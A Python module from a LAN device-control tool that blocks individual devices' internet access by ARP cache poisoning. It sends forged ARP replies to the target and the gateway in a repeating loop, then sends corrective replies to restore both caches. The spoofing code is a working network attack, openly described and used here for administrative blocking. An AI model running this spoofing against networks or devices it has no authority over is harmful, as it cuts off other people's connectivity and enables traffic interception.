"""
Per-device internet blocking through ARP cache poisoning.

While a device is blocked the controller keeps telling the device that the gateway's IP
is at the controller's MAC, and the gateway that the device's IP is at the controller's
MAC. The controller does not forward the traffic it attracts, so the two lose each other.
Unblocking stops the replies and sends corrective ones with the true MACs.
"""

import asyncio
import logging
from dataclasses import dataclass
from enum import Enum
from typing import Optional

from ..core.config import Settings
from ..core.errors import (
    ArpSendError,
    GatewayBlockError,
    InterfaceNotFoundError,
    LancutError,
    MacResolutionError,
    SelfBlockError,
)
from .events import DEVICE_BLOCKED, DEVICE_UNBLOCKED, EventBus
from .models import InterfaceInfo
from .network_probe import NetworkProbe
from .registry import DeviceRegistry
from .utils import is_usable_mac, normalize_mac

logger = logging.getLogger(__name__)


class BlockState(str, Enum):
    ACTIVE = "active"
    STOPPING = "stopping"
    STOPPED = "stopped"


@dataclass
class BlockSession:
    target_ip: str
    target_mac: str
    gateway_ip: str
    gateway_mac: str
    local_mac: str
    state: BlockState = BlockState.ACTIVE
    task: Optional[asyncio.Task] = None
    rounds: int = 0


class AccessController:
    """Owns every block session; nothing outside this class touches them."""

    def __init__(
        self,
        registry: DeviceRegistry,
        probe: NetworkProbe,
        settings: Settings,
        bus: Optional[EventBus] = None,
    ):
        self.registry = registry
        self.probe = probe
        self.settings = settings
        self.bus = bus or registry.bus
        self._sessions: dict[str, BlockSession] = {}
        self._pending: set[str] = set()
        registry.blocked_lookup = self.is_blocked

    def is_blocked(self, ip: str) -> bool:
        session = self._sessions.get(ip)
        return session is not None and session.state == BlockState.ACTIVE

    @property
    def blocked_ips(self) -> list[str]:
        return [ip for ip in self._sessions if self.is_blocked(ip)]

    def session(self, ip: str) -> Optional[BlockSession]:
        return self._sessions.get(ip)

    def _network(self) -> InterfaceInfo:
        network = self.registry.network
        if network is None or not network.gateway_ip:
            raise InterfaceNotFoundError("Gateway is unknown; resolve the network interface first")
        if not is_usable_mac(network.local_mac):
            raise InterfaceNotFoundError(f"Interface {network.interface_name} has no MAC address")
        return network

    async def _resolve_mac(self, ip: str) -> str:
        try:
            mac = normalize_mac(await self.probe.resolve_mac(ip))
        except MacResolutionError:
            raise
        except Exception as e:
            raise MacResolutionError(ip, str(e)) from e
        if not is_usable_mac(mac):
            raise MacResolutionError(ip)
        return mac

    async def _poison(self, session: BlockSession):
        # Target: "the gateway is at my MAC"
        await self.probe.send_arp_reply(session.target_ip, session.target_mac, session.gateway_ip, session.local_mac)
        # Gateway: "the target is at my MAC"
        await self.probe.send_arp_reply(session.gateway_ip, session.gateway_mac, session.target_ip, session.local_mac)
        session.rounds += 1

    async def _restore(self, session: BlockSession):
        await self.probe.send_arp_reply(session.target_ip, session.target_mac, session.gateway_ip, session.gateway_mac)
        await self.probe.send_arp_reply(session.gateway_ip, session.gateway_mac, session.target_ip, session.target_mac)

    async def block(self, ip: str):
        """
        Start blocking ``ip``. Does nothing if it is already blocked.

        The first poisoning round is sent before the block is reported. If it fails,
        corrective replies are attempted and nothing is left blocked. An ``unblock``
        that lands while this is still running wins.

        Raises:
            GatewayBlockError: ``ip`` is the gateway
            SelfBlockError: ``ip`` is this host
            MacResolutionError: the target's or the gateway's MAC is unknown
            PermissionDeniedError: raw ARP frames cannot be sent
            ArpSendError: any other failure to send the first round
            InterfaceNotFoundError: the local interface or gateway is unknown
        """
        if ip in self._sessions or ip in self._pending:
            return

        network = self._network()
        if ip == network.local_ip:
            raise SelfBlockError(ip)
        device = await self.registry.get(ip)
        if ip == network.gateway_ip or (device is not None and device.is_gateway):
            raise GatewayBlockError(ip)

        self._pending.add(ip)
        try:
            target_mac = await self._resolve_mac(ip)
            gateway_mac = await self._resolve_mac(network.gateway_ip)

            session = BlockSession(
                target_ip=ip,
                target_mac=target_mac,
                gateway_ip=network.gateway_ip,
                gateway_mac=gateway_mac,
                local_mac=network.local_mac,
            )
            self._sessions[ip] = session
        finally:
            self._pending.discard(ip)

        logger.info("Blocking device: %s (%s)", ip, target_mac)
        try:
            await self._poison(session)
        except Exception as e:
            await self._abort(session)
            if isinstance(e, LancutError):
                raise
            raise ArpSendError(f"Could not send ARP replies for {ip}: {e}") from e

        if not self._is_current(session):
            # Unblocked while the first round was in flight; our replies may have landed last
            await self._heal_superseded(session)
            return

        await self.registry.set_blocked(ip, True)
        if not self._is_current(session):
            await self.registry.set_blocked(ip, self.is_blocked(ip))
            return

        session.task = asyncio.create_task(self._spoof_loop(session))
        await self.bus.publish(DEVICE_BLOCKED, {"ip": ip, "mac": target_mac})

    def _is_current(self, session: BlockSession) -> bool:
        return session.state == BlockState.ACTIVE and self._sessions.get(session.target_ip) is session

    async def _abort(self, session: BlockSession):
        """Roll back a session whose first round failed."""
        if self._sessions.get(session.target_ip) is session:
            del self._sessions[session.target_ip]
        session.state = BlockState.STOPPED
        try:
            await self._restore(session)
        except Exception as e:
            logger.warning("Could not restore ARP for %s after a failed block: %s", session.target_ip, e)
        await self.registry.set_blocked(session.target_ip, self.is_blocked(session.target_ip))

    async def _heal_superseded(self, session: BlockSession):
        try:
            await self._restore(session)
        except Exception as e:
            logger.warning("Error restoring ARP for %s: %s", session.target_ip, e)

    async def _spoof_loop(self, session: BlockSession):
        """Re-send forged replies every SPOOF_INTERVAL until cancelled."""
        while session.state == BlockState.ACTIVE:
            await asyncio.sleep(self.settings.SPOOF_INTERVAL)
            try:
                await self._poison(session)
            except Exception as e:
                logger.error("Error in ARP spoofing for %s: %s", session.target_ip, e)

    async def unblock(self, ip: str):
        """Stop blocking ``ip`` and heal both ARP caches. Does nothing if it is not blocked."""
        session = self._sessions.get(ip)
        if session is None or session.state != BlockState.ACTIVE:
            return

        session.state = BlockState.STOPPING
        try:
            if session.task:
                session.task.cancel()
                try:
                    await session.task
                except asyncio.CancelledError:
                    pass

            try:
                await self._restore(session)
            except Exception as e:
                logger.warning("Error restoring ARP for %s: %s", ip, e)
        finally:
            self._sessions.pop(ip, None)
            session.state = BlockState.STOPPED

        logger.info("Unblocked device: %s", ip)
        await self.registry.set_blocked(ip, False)
        await self.bus.publish(DEVICE_UNBLOCKED, {"ip": ip, "mac": session.target_mac})

    async def shutdown(self):
        """Unblock everything, giving each device a bounded amount of time."""
        timeout = self.settings.SHUTDOWN_UNBLOCK_TIMEOUT
        for ip in list(self._sessions):
            try:
                await asyncio.wait_for(self.unblock(ip), timeout=timeout)
            except asyncio.TimeoutError:
                logger.warning("Unblocking %s did not finish within %.1fs; abandoning it", ip, timeout)
                await self.registry.set_blocked(ip, False)
            except Exception:
                logger.exception("Unblocking %s failed during shutdown", ip)
            finally:
                session = self._sessions.pop(ip, None)
                if session is not None:
                    session.state = BlockState.STOPPED
                    if session.task and not session.task.done():
                        session.task.cancel()
